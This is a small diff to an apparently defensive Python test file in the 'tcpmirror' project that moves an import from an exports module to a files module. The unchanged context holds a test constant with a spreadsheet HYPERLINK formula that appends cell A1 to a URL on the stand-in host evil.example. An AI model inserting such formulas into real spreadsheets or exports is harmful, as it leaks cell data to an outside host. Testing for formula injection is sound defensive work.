@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from tcpmirror.cloud.api.exports import cell
+from tcpmirror.cloud.api.files import cell
 from tests.cloud.running import READ, RunningCloud, finding, report
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
